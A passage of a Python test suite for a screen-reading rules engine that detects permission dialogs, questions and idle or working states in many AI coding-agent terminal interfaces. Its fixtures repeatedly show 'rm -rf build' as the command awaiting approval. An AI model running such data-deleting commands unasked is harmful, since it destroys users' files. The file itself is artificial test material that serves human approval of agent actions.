        " █    │     2  Provide alternative instructions" + " " * 19 + "│",
        " █    │   Esc  cancel   Enter  confirm" + " " * 28 + "│", " █    ╰" + "─" * 56 + "╯"]
CHROME = ["", "─" * 100, "  ⠦ Streaming | 00:00", "  ╭" + "─" * 90 + "╮", "  │" + " " * 90 + "│",
          "  ╰" + "─" * 90 + "╯", " ^c Interrupt  ^d Quit  f2 Mode"]


def test_a_dialog_box_right_over_the_transcripts_rule_is_live(generic: rules.Manifest) -> None:
    """A box in the transcript over the rule that closes it, its options numbered "1  Yes"
    (the selection a colour), the screen's own rows under the rule: its command the
    call's card above it."""
    v = read(generic, [*CARD, *ASKS, " █", *CHROME])
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_box_over_rule")
    assert v.dialog is not None and v.dialog.question.startswith("Allow this action?")
    assert any("$ rm -rf build" in r for r in v.dialog.subject), v.dialog
    assert [o.label for o in v.dialog.options] == ["Yes", "Provide alternative instructions"]


def test_a_dialog_box_with_the_conversation_under_it_is_answered(
        generic: rules.Manifest) -> None:
    v = read(generic, [*CARD, *ASKS, " █", " █ I will not run it.", " █", *CHROME])
    assert v.state != "blocked", v


def test_an_answers_glyph_over_a_turns_summary_is_no_spinner(generic: rules.Manifest) -> None:
    """A braille glyph that marks the answer ("⠶ Two plus two is four."), the turn's summary
    under it ("✻ Worked for 1s"): the composer between its rules reads idle."""
    rows = ["❯ what is two plus two", "", "⠶ Two plus two is four.", "", "✻ Worked for 1s", "",
            "─" * 100, "❯ Ask your question...", "─" * 100, "  ? for shortcuts · taste off"]
    v = read(generic, rows)
    assert v.state == "idle", v
    # a new turn's spinner under that summary is work
    v = read(generic, [*rows[:6], "⠋ Thinking…", "", *rows[6:]])
    assert v.state == "working", v


def test_a_card_with_a_scroll_bar_shows_part_of_its_command(generic: rules.Manifest) -> None:
    """A command taller than its card: the card's own scroll bar on its edge ("▅│", "│ ▁"):
    what runs is not all shown (partial: `answer` refuses to type)."""
    card = [" █   ●  run_command", " █  ╭" + "─" * 60 + "╮",
            " █  │[-] $ touch f00.txt" + " " * 41 + "│",
            " █  │touch f01.txt" + " " * 46 + "▅│", " █  │touch f02.txt" + " " * 47 + "│ ▁",
            " █  ╰" + "─" * 60 + "╯", " █"]
    v = read(generic, [*card, *ASKS, " █", *CHROME])
    assert v.state == "blocked" and v.dialog is not None, v
    assert v.dialog.partial, v.dialog
    whole = read(generic, [*CARD, *ASKS, " █", *CHROME])
    assert whole.dialog is not None and not whole.dialog.partial


# --------------- generic .57: an all-or-none approval of the actions listed

def test_an_all_or_none_question_over_a_line_prompt_is_a_permission(
        generic: rules.Manifest) -> None:
    """Gemma's approval: the actions listed with their numbers, "Approve? (a)ll / (n)one /
    comma-separated numbers (e.g. 0,2)" over the prompt "  >": its subject the actions'
    paragraph, its options the keys glued to "all" and "none", typed with Enter."""
    rows = ["  Gemma wants to perform 1 action(s):", "",
            "  [0] exec (command=\"rm -rf build\")", "",
            "  Approve? (a)ll / (n)one / comma-separated numbers (e.g. 0,2)", "  >"]
    v = read_typing_at_end(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_glued_keys_permission")
    assert v.dialog is not None and v.dialog.subject == ("[0] exec (command=\"rm -rf build\")",)
    assert [(o.label, o.key) for o in v.dialog.options] == [("(a)ll", "a"), ("(n)one", "n")]
    assert v.dialog.choose == "key_enter"
    # answered: the output under it takes the cursor away
    assert read_typing_at_end(generic, [*rows[:-1], "  > a", "[gate] ran"]).state != "blocked"


# --------------- generic .58: a dialog box over its own turn's spinner row

CODERIO_BOX = ["│  输入消息, /help 看命令, Esc 中断任务" + " " * 40 + "│", "│" + " " * 80 + "│",
               "│  ╭" + "─" * 74 + "╮  │", "│  │ ⚠ execute(command='rm -rf build')" + " " * 39 + "│  │",
               "│  │ ✅ 允许执行" + " " * 62 + "│  │", "│  │ ❌ 拒绝" + " " * 66 + "│  │",
               "│  │ ✎ 自定义回复" + " " * 60 + "│  │", "│  ╰" + "─" * 74 + "╯  │"]


def test_a_dialog_box_right_over_its_turns_spinner_is_live(generic: rules.Manifest) -> None:
    """The turn's status row right under the dialog's closed box, the turn waiting on the
    answer: the catch-all reads the approving and the declining option."""
    rows = ["╭" + "─" * 80 + "╮", *CODERIO_BOX,
            "│  ⠇ 步骤1 · 执行 execute · 0.6s · 101 tok" + " " * 33 + "⏹    │", "╰" + "─" * 80 + "╯"]
    v = read(generic, rows)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_options"), v


def test_options_with_rows_between_them_and_a_running_spinner_are_none(
        generic: rules.Manifest) -> None:
    """Answered, the tool's result under the box, the turn's spinner under that."""
    rows = ["╭" + "─" * 80 + "╮", *CODERIO_BOX,
            "│  ↳ execute: Permission denied" + " " * 49 + "│",
            "│  ⠇ 步骤1 · 思考中 · 2.6s" + " " * 54 + "⏹    │", "╰" + "─" * 80 + "╯"]
    assert read(generic, rows).state != "blocked"


# --------------- generic .59: what a dialog over the transcript's rule shows, and no more

def test_a_box_over_the_rule_with_no_card_is_partial(generic: rules.Manifest) -> None:
    """No call's card above the box (no bar down the transcript): its command is not known,
    so `answer` refuses it."""
    plain = [r.replace(" █", "  ", 1) for r in ASKS]
    v = read(generic, ["  Some words of the answer.", "", *plain, "", *CHROME])
    assert v.state == "blocked" and v.dialog is not None, v
    assert v.dialog.partial, v.dialog


def test_a_command_drawn_in_the_box_under_the_question_is_in_its_subject(
        generic: rules.Manifest) -> None:
    box = [*ASKS[:2], " █    │   $ rm -rf build" + " " * 34 + "│", *ASKS[2:]]
    v = read(generic, [*CARD[:1], " █", *box, " █", *CHROME])
    assert v.dialog is not None and any("$ rm -rf build" in r for r in v.dialog.subject), v.dialog


def test_a_tall_card_may_hide_its_command_under_its_own_scroll(generic: rules.Manifest) -> None:
    card = [" █   ●  run_command", " █  ╭" + "─" * 60 + "╮",
            *(f" █  │touch f{i:02}.txt" + " " * 47 + "│" for i in range(18)),
            " █  ╰" + "─" * 60 + "╯", " █"]
    v = read(generic, [*card, *ASKS, " █", *CHROME])
    assert v.dialog is not None and v.dialog.partial, v.dialog


def test_numbered_text_typed_in_the_composer_is_no_option(generic: rules.Manifest) -> None:
    typed = [*CHROME[:4], "  │ 1. skip the tests" + " " * 70 + "│", "  │ 2. run them" + " " * 76 + "│",
             *CHROME[5:]]
    v = read(generic, [*CARD, *ASKS, " █", *typed])
    assert v.dialog is not None, v
    assert [o.label for o in v.dialog.options] == ["Yes", "Provide alternative instructions"]


def test_a_question_over_a_composers_setting_is_no_select(generic: rules.Manifest) -> None:
    """A box-drawn composer whose top row shows a setting with "▼" under an answer's
    question: no select field (those are drawn in eighth blocks)."""
    rows = ["Would you like me to add tests too?", "╭" + "─" * 60 + "╮",
            "│ Model: gpt-4o" + " " * 43 + "▼ │", "│" + " " * 60 + "│", "╰" + "─" * 60 + "╯"]
    assert read(generic, rows).state != "blocked"


def test_a_past_verb_with_no_time_is_no_turns_summary(generic: rules.Manifest) -> None:
    """A spinner over "● Searched for 3 patterns" (a step's row, no time): work."""
    rows = ["⠋ Searching the codebase…", "● Searched for 3 patterns", "",
            "─" * 100, "❯ Ask your question...", "─" * 100, "  ? for shortcuts · taste off"]
    assert read(generic, rows).state == "working"


def test_an_all_or_none_question_names_every_action_listed(generic: rules.Manifest) -> None:
    rows = ["  Gemma wants to perform 2 action(s):", "",
            "  [0] exec (command=\"ls\")", "  [1] exec (command=\"rm -rf build\")", "",
            "  Approve? (a)ll / (n)one / comma-separated numbers (e.g. 0,2)", "  >"]
    v = read_typing_at_end(generic, rows)
    assert v.dialog is not None and v.dialog.subject == (
        "[0] exec (command=\"ls\")", "[1] exec (command=\"rm -rf build\")"), v.dialog


@pytest.mark.parametrize("agent", ["openhands-1.16.0", "dostuff-0.2.0"])
def test_a_permission_whose_command_is_read_nowhere_is_partial(
        generic: rules.Manifest, agent: str) -> None:
    """Real approvals that ask in words only ("🔍 Confirm 1 action(s)?", "Do you want to
    proceed?") with the command printed above them where no finder reads it (a paragraph
    two rows up, a block above the turn's spinner row): their options are read, but the
    dialog is partial (`answer` refuses it, its id would not cover the command)."""
    v = read(generic, _screen(HELD_OUT / agent / "screens" / "blocked-permission--bash-rm.txt"))
    assert (v.state, v.kind) == ("blocked", "permission"), v
    assert v.dialog is not None and len(v.dialog.options) >= 2, v.dialog
    assert v.dialog.subject == () and v.dialog.partial, v.dialog


@pytest.mark.parametrize("agent", ["joshu-0.3.0", "tinyharness-0.1.0"])
def test_a_numbered_approval_under_the_commands_box_reads_the_box(
        generic: rules.Manifest, agent: str) -> None:
    """Joshu's "Do you want to run this command?" and tinyharness's "Run this command?"
    under the box that shows the command (a warning row between or not): the box's rows
    are the dialog's subject, so two commands are two dialogs; a command taller than the
    screen is partial."""
    screens = HELD_OUT / agent / "screens"
    v = read(generic, _screen(screens / "blocked-permission--bash-rm.txt"))
    assert (v.state, v.kind) == ("blocked", "permission"), v
    d = v.dialog
    assert d is not None and len(d.options) == 2 and not d.partial, d
    assert any("rm -rf build" in row for row in d.subject), d.subject
    other = read(generic, _screen(screens / "blocked-permission--bash.txt"))
    assert other.dialog is not None and other.dialog.id != d.id
    assert any("mkdir -p out" in row for row in other.dialog.subject)
    tall = read(generic, _screen(screens / "blocked-permission--long-command.txt"))
    assert tall.state == "blocked" and tall.dialog is not None and tall.dialog.partial


@pytest.mark.parametrize(("question", "partial"), [
    ("Do you want to proceed?", True),
    ("Run this command?", True),
    ("Allow run_shell?", True),
    ("Allow execution of [Shell]?", True),
    ("Allow execution of: 'rm'?", True),
    ("Run rm -rf build?", False),
    ("Overwrite notes.txt?", False),
    ("Run `make clean`?", False),
])
def test_a_tui_permission_without_a_subject_is_partial_unless_its_question_names_it(
        generic: rules.Manifest, question: str, partial: bool) -> None:
    rows = ["  > clean the build", "", "  I will clean it.", "",
            *boxed(question, "", "❯ 1. Yes", "  2. No", "", "↑/↓ select · Enter confirm · Esc cancel")]
    v = read(generic, rows)
    assert (v.state, v.kind) == ("blocked", "permission"), v
    assert v.dialog is not None and [o.label for o in v.dialog.options] == ["Yes", "No"]
    assert v.dialog.partial is partial, v.dialog


def _cursor_read(manifest: rules.Manifest, lines: list[str]) -> rules.Verdict:
    """A real line-mode screen, the cursor on its last row with anything on it."""
    last = max(i for i, x in enumerate(lines) if x.strip())
    return rules.evaluate(manifest, rules.Snapshot(lines=lines, cursor=(last, len(lines[last]))))


def test_bracketed_keys_over_a_bare_prompt_glyph_are_a_permission_with_its_command(
        generic: rules.Manifest) -> None:
    """Ajna 0.1.1: "  [y] yes   [n] no   [a] always allow ...   [s] always this session"
    over "  > " on the cursor's row: its keys typed with Enter; its subject the "$ " row
    and the command's rows under it; its 61-line command, the "$ " row scrolled away,
    partial."""
    screens = HELD_OUT / "ajna-0.1.1" / "screens"
    v = _cursor_read(generic, _screen(screens / "blocked-permission--multiline-1.txt"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_keys_over_prompt")
    d = v.dialog
    assert d is not None and not d.partial and d.subject == ("mkdir -p m", "touch x1.txt")
    assert [(o.key, o.label) for o in d.options][:2] == [("y", "yes"), ("n", "no")]
    assert dialog.keys_for(d, dialog.resolve(d, "y")) == ["y", "\r"]
    cut = _cursor_read(generic, _screen(screens / "blocked-permission--long-command.txt"))
    assert cut.rule_id == "line_keys_over_prompt" and cut.dialog is not None
    assert cut.dialog.partial
    quoted = _cursor_read(generic, _screen(screens / "done--quoted-dialog.txt"))
    assert quoted.state != "blocked", quoted


def test_a_command_box_that_shows_its_first_rows_then_an_ellipsis_is_partial(
        generic: rules.Manifest) -> None:
    """CrabCode 0.1.8's 61-line command: its box shows three rows, then "│ … │", over
    "Allow Bash? (y)es / (n)o / ...": the rest is not on screen."""
    screens = HELD_OUT / "crabcode-0.1.8" / "screens"
    v = _cursor_read(generic, _screen(screens / "blocked-permission--long-command.txt"))
    assert (v.state, v.kind) == ("blocked", "permission") and v.dialog is not None
    assert v.dialog.partial and v.dialog.subject[:3] == (
        "touch f00.txt", "touch f01.txt", "touch f02.txt")
    whole = _cursor_read(generic, _screen(screens / "blocked-permission--bash.txt"))
    assert whole.dialog is not None and not whole.dialog.partial
    assert whole.dialog.subject == ("sleep 3 && mkdir -p out && echo hi > out/x.txt",)


def test_an_answered_question_over_an_empty_composer_box_is_no_dialog(
        generic: rules.Manifest) -> None:
    """CrabCode: the answered question left printed, the answer and "● Ready" under it,
    then its composer's box back empty ("│ ❯ │") with its own hints on the box's bottom
    edge ("Enter sends · Alt+Enter / Ctrl+J newline"): no live dialog."""
    rows = ["  ❯ ask me a question", "  Which color do you prefer?", "  ❯ ◉ red",
            "    ○ green", "    ○ blue", "", "  ↑↓ navigate · enter select · esc cancel",
            "  ↳ User selected: red", "You chose red.", "", "  ● Ready",
            "╭─ CrabCode " + "─" * 60 + "╮", "│ ❯" + " " * 69 + "│",
            "╰─ Enter sends · Alt+Enter / Ctrl+J newline · Ctrl+D exits " + "─" * 13 + "╯"]
    assert read(generic, rows).state != "blocked"
    live = rows[:7]
    assert read(generic, live).state == "blocked"


def test_a_modal_in_full_blocks_over_a_blank_screen_is_a_dialog(
        generic: rules.Manifest) -> None:
    """pcli 0.2.0's approval: a Textual modal framed "█▀▀█" / "█▄▄█" over a blanked
    screen, the call's arguments in it, its buttons centred on rows of their own ("Allow
    Once  Allow for Session", "Allow Always  Deny"), none focused: a permission whose
    subject is the modal's rows above the buttons (partial where the arguments are cut:
    "... [132 more chars truncated]"); its question modal (a "?" row over centred
    options) is a question; the screen after it is answered, none."""
    screens = HELD_OUT / "pcli-0.2.0" / "screens"
    v = read(generic, _screen(screens / "blocked-permission--bash-rm.txt"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_block_modal")
    d = v.dialog
    assert d is not None and not d.partial and d.options == ()
    assert "{'command': 'rm -rf build'}" in d.subject, d.subject
    cut = read(generic, _screen(screens / "blocked-permission--long-command.txt"))
    assert cut.dialog is not None and cut.dialog.partial
    q = read(generic, _screen(screens / "blocked-question--question.txt"))
    assert (q.state, q.kind) == ("blocked", "question"), q
    for name in ("done--after-deny.txt", "done--after-question.txt", "idle--prompt.txt"):
        assert read(generic, _screen(screens / name)).state != "blocked", name


def test_two_choices_on_the_cursors_row_under_a_call_that_shows_nothing(
        generic: rules.Manifest) -> None:
    """codii 0.1.0: "  bash()" (its command not shown) over "❯ Allow      Deny" on the
    cursor's row: a permission whose options are read (the pointer the selection, ←/→
    and Enter), partial (nothing on screen says what it runs): `answer` refuses it. The
    same row left in the transcript once answered is none."""
    screens = HELD_OUT / "codii-0.1.0" / "screens"
    v = _cursor_read(generic, _screen(screens / "blocked-permission--bash.txt"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_choice_row")
    d = v.dialog
    assert d is not None and [(o.label, o.selected) for o in d.options] == [
        ("Allow", True), ("Deny", False)]
    assert d.choose == "arrows_lr" and d.partial and v.msg == "bash()"
    moved = read(generic, ["  bash()", "  Allow    ❯ Deny"])
    assert moved.dialog is not None and [o.selected for o in moved.dialog.options] == [
        False, True]
    for name in ("done--answer.txt", "done--after-deny.txt", "idle--prompt.txt"):
        assert _cursor_read(generic, _screen(screens / name)).state != "blocked", name


def _at_prompt(manifest: rules.Manifest, lines: list[str], typed: str | None = None,
               col: int = 2) -> rules.Verdict:
    """A screen with the cursor on its last "❯" row, at `col` (after "❯ ")."""
    row = max(i for i, x in enumerate(lines) if x.startswith("❯"))
    return rules.evaluate(manifest, rules.Snapshot(lines=lines, cursor=(row, col), typed=typed))


def test_a_prompt_glyph_with_a_placeholder_right_of_the_cursor_is_the_chats_prompt(
        generic: rules.Manifest) -> None:
    """langrepl 1.12.1: "❯ claude-style-coder:haiku-4.5" under a blank row, the cursor
    after "❯ " (the agent and model its placeholder): the chat's prompt, idle. Its dialog
    ("Allow running run_command ? : <command>" over its own "❯" and an open menu) stays
    blocked, and so does that prompt once "deny" is typed there and the menu closed (the
    question right above it); a glyph with words left of the cursor is no prompt, nor a
    full-screen composer's placeholder over its footer rows."""
    screens = HELD_OUT / "langrepl-1.12.1" / "screens"
    for name in ("idle--prompt.txt", "done--answer.txt", "idle--after-deny.txt"):
        v = _at_prompt(generic, _screen(screens / name))
        assert (v.state, v.rule_id) == ("idle", "line_chat_prompt_placeholder"), name
    # the user's own words right of the cursor (moved back over them): still its prompt
    typing = _screen(screens / "idle--prompt.txt")
    at = max(i for i, x in enumerate(typing) if x.startswith("❯"))
    typing[at] = "❯ fix the build"
    assert _at_prompt(generic, typing, typed="fix the build").state == "idle"
    # typed, the cursor after the words: not the bare prompt (the user's line, read as
    # nothing until it is sent)
    v = _at_prompt(generic, typing, typed="fix the build", col=15)
    assert v.rule_id != "line_chat_prompt_placeholder", v
    asked = _screen(screens / "blocked-permission--bash.txt")
    v = _at_prompt(generic, asked)
    assert (v.state, v.kind) == ("blocked", "permission"), v
    at = max(i for i, x in enumerate(asked) if x.startswith("❯"))
    closed = asked[:at] + ["❯ deny"] + [""] * (len(asked) - at - 2) + asked[-1:]
    v = _at_prompt(generic, closed, typed="deny", col=6)
    assert v.rule_id != "line_chat_prompt_placeholder" and v.state != "idle", v
    printed = ["Agent v1", "", "> make the files", ""]
    v = rules.evaluate(generic, rules.Snapshot(lines=printed, cursor=(2, 16)))
    assert v.rule_id != "line_chat_prompt_placeholder", v
    # a full-screen composer's placeholder over its footer rows, drawn while the answer
    # streams over it (Codex's): no line prompt
    codex = ["• Here is what I f", "", "› Ask Codex to do anything", "",
             "  gpt-5 default · ~/work · fake", "  ← for agents · ? for shortcuts"]
    v = rules.evaluate(generic, rules.Snapshot(lines=codex, cursor=(2, 2)))
    assert v.rule_id != "line_chat_prompt_placeholder", v


def _cursor_at(manifest: rules.Manifest, lines: list[str], row: int,
               col: int | None = None) -> rules.Verdict:
    """A screen with the cursor on `row` (counted from the end if negative), at `col`
    (default: a blank after the row's text, in cells)."""
    row = row % len(lines)
    at = sum(char_width(c) for c in lines[row].rstrip()) + 1 if col is None else col
    return rules.evaluate(manifest, rules.Snapshot(lines=lines, cursor=(row, at)))


def _last_row(lines: list[str], start: str) -> int:
    return max(i for i, x in enumerate(lines) if x.startswith(start))


def test_a_line_prompt_that_names_its_keys_with_their_words_is_a_permission(
        generic: rules.Manifest) -> None:
    """pooh-code 2.0.0: "允许执行吗？输入 y 同意，n 拒绝: " on the cursor's line, under
    "[pooh-code] 命令执行审批", "cwd: ...", "command: <command>": a permission, y or n and
    Enter, its subject that paragraph (the 61-line command's reaching the screen's top:
    partial). The same shape in English; a chat's line the user typed is none; the chat's
    own prompt with its status in brackets before "You >" is its prompt."""
    screens = HELD_OUT / "pooh-2.0.0" / "screens"
    asked = _screen(screens / "blocked-permission--bash.txt")
    v = _cursor_at(generic, asked, _last_row(asked, "允许"))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_key_words_permission")
    d = v.dialog
    assert d is not None and not d.partial
    assert d.subject[-1] == "command: sleep 3 && mkdir -p out && echo hi > out/x.txt"
    assert dialog.keys_for(d, dialog.resolve(d, "no")) == ["n", "\r"]
    typed = asked[:]
    typed[_last_row(typed, "允许")] += " y"
    t = _cursor_at(generic, typed, _last_row(typed, "允许"))
    assert t.dialog is not None and t.dialog.id == d.id and t.dialog.typed == "y"
    long = _screen(screens / "blocked-permission--long-command.txt")[:-1]  # its 40 rows
    cut = _cursor_at(generic, long, _last_row(long, "允许"))
    assert cut.rule_id == "line_key_words_permission" and cut.dialog is not None
    assert cut.dialog.partial
    for line, kind in (("Run rm -rf build? Enter y to approve, n to deny: ", "permission"),
                       ("Apply the patch (y = yes, n = no)? ", "permission"),
                       ("User: type y to approve, n to deny: ", None),
                       ("Pick one: y for the red, n for the blue: ", None)):
        v = _cursor_at(generic, ["$ rm -rf build", line], 1)
        assert (v.kind if v.state == "blocked" else None) == kind, (line, v)
    idle = _screen(screens / "idle--prompt.txt")
    v = _cursor_at(generic, idle, _last_row(idle, "["))
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt"), v


def test_a_prompt_sent_under_the_composers_rule_with_nothing_drawn_yet_is_work(
        generic: rules.Manifest) -> None:
    """ChCode 0.1.5: the banner's legend "Ctrl+C to interrupt | Tab to toggle mode | /quit
    to exit" is no turn running; its composer " >" between two rules is its prompt; the
    prompt sent (" > describe the project" under the upper rule, the cursor on the empty
    row under it, no composer drawn) is a turn running, not an empty composer; the same
    words with the cursor on their row are typed, not sent."""
    screens = HELD_OUT / "chcode-0.1.5" / "screens"
    idle = _screen(screens / "idle--prompt.txt")
    v = _cursor_at(generic, idle, _last_row(idle, " >"), 3)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_rules"), v
    sent = _screen(screens / "working--silent.txt")
    row = _last_row(sent, " > describe")
    v = _cursor_at(generic, sent, row + 1, 0)
    assert (v.state, v.rule_id) == ("working", "tui_prompt_sent"), v
    v = _cursor_at(generic, sent, row)
    assert v.rule_id != "tui_prompt_sent" and v.state != "working", v


def test_a_picker_drawn_over_an_empty_composer_box_reads_the_box_above_its_question(
        generic: rules.Manifest) -> None:
    """Quoriv 1.7.0: "Approve execute?", "Pick how to handle this tool call.", a numbered
    list behind a pointer, its hints, then the composer's empty box and a status row: a
    permission whose subject is the tool call's box above the question (a rule between
    them), its arguments whole; the pointer moved, still one; the 61-line command's box
    past the screen's top, partial. Its composer, an empty box of one row over a status
    row, reads idle, a status word with an ellipsis right over it working (not a tool's
    "⎿ Executing..." left over Grok CLI's composer); the picker quoted in an answer,
    "Nothing is waiting now." under it, is none."""
    screens = HELD_OUT / "quoriv-1.7.0" / "screens"
    asked = _screen(screens / "blocked-permission--bash.txt")[:-1]
    v = _cursor_at(generic, asked, 23, 0)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_list_on_box")
    d = v.dialog
    assert d is not None and not d.partial
    assert [(o.label, o.selected) for o in d.options] == [
        ("approve", True), ("approve_always", False), ("reject", False)]
    assert "Args: {'command': 'sleep 3 && mkdir -p out && echo hi > out/x.txt'}" in d.subject
    assert dialog.keys_for(d, dialog.resolve(d, "reject")) == ["\x1b[B", "\x1b[B", "\r"]
    moved = [x.replace("  > 1. approve", "    1. approve").replace(
        "    2. approve_always", "  > 2. approve_always") for x in asked]
    m = _cursor_at(generic, moved, 23, 0)
    assert m.rule_id == "tui_dialog_list_on_box" and m.dialog is not None
    assert [o.selected for o in m.dialog.options] == [False, True, False]
    long = _screen(screens / "blocked-permission--long-command.txt")[:-1]
    cut = _cursor_at(generic, long, 23, 0)
    assert cut.rule_id == "tui_dialog_list_on_box" and cut.dialog is not None
    assert cut.dialog.partial
    idle = _screen(screens / "idle--prompt.txt")[:-1]
    box = _last_row(idle, "┌") + 1
    v = _cursor_at(generic, idle, box, 1)
    assert (v.state, v.rule_id) == ("idle", "tui_composer_box_empty"), v
    busy = _screen(screens / "working--thinking.txt")[:-1]
    v = _cursor_at(generic, busy, _last_row(busy, "┌") + 1, 1)
    assert (v.state, v.rule_id) == ("working", "tui_working_word"), v
    grok = ["  ⏺ Bash", "    ⎿ Executing...", "  ╭" + "─" * 40 + "╮",
            "  │ ❯ Ask me anything..." + " " * 18 + "│", "  ╰" + "─" * 40 + "╯",
            "  ⏸ auto-edit: off (shift + tab)"]
    assert _cursor_at(generic, grok, 3, 6).rule_id != "tui_working_word"
    quoted = _screen(screens / "done--quoted-dialog.txt")[:-1]
    v = _cursor_at(generic, quoted, _last_row(quoted, "┌") + 1, 1)
    assert v.state == "idle", v


def test_buttons_with_marks_beside_the_composer_and_a_forms_buttons_are_dialogs(
        generic: rules.Manifest) -> None:
    """Andromity 0.2.24: its viewer panel's "✓ Apply    ✕ Reject" level with its composer
    (a spinner on its status row all the while): a permission, no options read (its
    buttons take the mouse) and partial (the command is cut at the panel's edge); its
    question panel's "Skip (Esc)   Submit (Ctrl+Enter)" over the composer: a question.
    Its composer, a box holding its placeholder ("Message · / commands · @ skills"), is
    its prompt; the same buttons typed behind a prompt glyph are none."""
    screens = HELD_OUT / "andromity-0.2.24" / "screens"
    asked = _screen(screens / "blocked-permission--shell.txt")[:-1]
    v = _cursor_at(generic, asked, 1, 2)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_mark_buttons")
    assert v.dialog is not None and v.dialog.partial and v.dialog.options == ()
    with pytest.raises(dialog.ChoiceError):
        dialog.resolve(v.dialog, "Apply")
    q = _cursor_at(generic, _screen(screens / "blocked-question--question.txt")[:-1], 1, 2)
    assert (q.state, q.kind, q.rule_id) == (
        "blocked", "question", "tui_question_submit_buttons")
    idle = _cursor_at(generic, _screen(screens / "idle--prompt.txt")[:-1], 1, 2)
    assert idle.state == "idle", idle
    assert idle.rule_id in ("tui_composer_box_hint", "tui_composer_panel_hint"), idle
    typed = read(generic, ["> Run it? ✓ Apply    ✕ Reject", "", "model · ~/work"])
    assert typed.rule_id != "tui_dialog_mark_buttons"


def test_options_led_by_their_letter_keys_in_a_panel_are_a_permission(
        generic: rules.Manifest) -> None:
    """Wingman 0.4.3: its permission in the transcript panel, behind a bar down its left
    side ("│  │  Do you want to proceed?", "› y. Yes", "  a. Yes, always allow this
    session", "  n. No, and tell me what to do differently"), the panel's empty rows under
    it, its composer's placeholder "Type... (/ for commands)" last in the panel: a
    permission, each option chosen with its key, its subject the tool and its command
    above the question. The same dialog quoted in an answer, a sentence under it, is none
    (the composer: idle); its composer at rest is its prompt; its spinner row high in the
    panel, the panel's empty rows under it, is a turn working."""
    screens = HELD_OUT / "wingman-0.4.3" / "screens"
    asked = _screen(screens / "blocked-permission--bash.txt")[:-1]
    row = _last_row(asked, "│   Type")
    v = _cursor_at(generic, asked, row, 5)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_letter_keys")
    assert v.dialog is not None and not v.dialog.partial
    assert [(o.label, o.key) for o in v.dialog.options] == [
        ("Yes", "y"), ("Yes, always allow this session", "a"),
        ("No, and tell me what to do differently", "n")]
    assert v.dialog.options[0].selected and v.dialog.choose == "key"
    assert [x.strip() for x in v.dialog.subject] == [
        "run_command", "$ sleep 3 && mkdir -p out && echo hi > out/x.txt"]
    no = dialog.resolve(v.dialog, "No, and tell me what to do differently")
    assert dialog.keys_for(v.dialog, no) == ["n"]
    quoted = _screen(screens / "done--quoted-dialog.txt")[:-1]
    q = _cursor_at(generic, quoted, row, 5)
    assert (q.state, q.rule_id) == ("idle", "tui_composer_panel_hint"), q
    idle = _cursor_at(generic, _screen(screens / "idle--prompt.txt")[:-1], row, 5)
    assert (idle.state, idle.rule_id) == ("idle", "tui_composer_panel_hint"), idle
    busy = _cursor_at(generic, _screen(screens / "working--thinking.txt")[:-1], row, 5)
    assert (busy.state, busy.rule_id) == ("working", "tui_working_in_panel"), busy
    # the same options with no approving or declining word: a question
    ask = ["│  Which colour?", "│  › r. Red", "│    b. Blue", "│", "│", "│   Type... (/ for"
           " commands)", "└" + "─" * 40 + "┘"]
    qv = read(generic, ask)
    assert (qv.state, qv.kind, qv.rule_id) == ("blocked", "question", "tui_question_letter_keys")


def test_glued_keys_ending_in_a_prompt_glyph_on_their_row_are_a_permission(
        generic: rules.Manifest) -> None:
    """Mcode 0.9.9: "    Proceed? [y]es  [n]o  [a]lways ❯ " on the cursor's row, under the
    reason and the call ("    shell_exec({'command': ...})"): a permission, each key typed
    and entered, its subject the call. Its prompt echoed between heavy rules with the
    approved command's rows printed under them is no composer at rest."""
    screens = HELD_OUT / "memocode-0.9.9" / "screens"
    asked = _screen(screens / "blocked-permission--shell_exec.txt")[:-1]
    v = _cursor_at(generic, asked, _last_row(asked, "    Proceed?"))
    assert (v.state, v.kind, v.rule_id) == (
        "blocked", "permission", "line_glued_keys_permission")
    assert v.dialog is not None and [o.key for o in v.dialog.options] == ["y", "n", "a"]
    assert any("sleep 3 && mkdir -p out" in x for x in v.dialog.subject)
    ran = _screen(screens / "working--tool-running.txt")[:-1]
    ran = [*ran[: _last_row(ran, "▶") + 1], "✓  (no output)", "", "  AAA", "  BBB", "  CCC"]
    r = _cursor_at(generic, ran + [""] * (40 - len(ran)), len(ran), 0)
    assert r.rule_id != "tui_composer_rules", r
    # the composer between its rules, its toolbar under them: its prompt
    idle = _screen(screens / "idle--prompt.txt")[:-1]
    i = _cursor_at(generic, idle, _last_row(idle, "❯"), 2)
    assert i.state == "idle", i


def test_a_legend_of_bracketed_keys_over_the_blank_row_read_is_a_permission(
        generic: rules.Manifest) -> None:
    """Vulpcode 0.2.0: "[y] yes once  [a] always for this tool  [n] no" under "[permission]
    Tool 'Bash' wants to run." and "Tool args: {'command': ...}", the cursor at the start of
    the blank row under it, nothing drawn below: a permission, its key typed and entered,
    its subject that paragraph. Answered ("n" echoed, the refusal and the spinner's row
    under it), or with the key typed after a prompt's glyph on its row, it is none."""
    screens = HELD_OUT / "vulpcode-0.2.0" / "screens"
    asked = _screen(screens / "blocked-permission--Bash.txt")[:-1]
    row = _last_row(asked, "[y] yes once") + 1
    v = _cursor_at(generic, asked, row, 0)
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "line_keys_over_blank")
    assert v.dialog is not None and not v.dialog.partial
    assert [(o.label, o.key) for o in v.dialog.options] == [
        ("yes once", "y"), ("always for this tool", "a"), ("no", "n")]
    assert dialog.keys_for(v.dialog, v.dialog.options[2]) == ["n", "\r"]
    assert v.dialog.subject == ("[permission] Tool 'Bash' wants to run.",
                                "Tool args: {'command': 'sleep 3 && mkdir -p out && echo hi >"
                                " out/x.txt'}")
    # the refusal typed and a spinner's row under the legend: the turn goes on
    spun = [*asked[:row], "n", "Tool 'Bash' denied: user rejected", "⠹ Thinking..."]
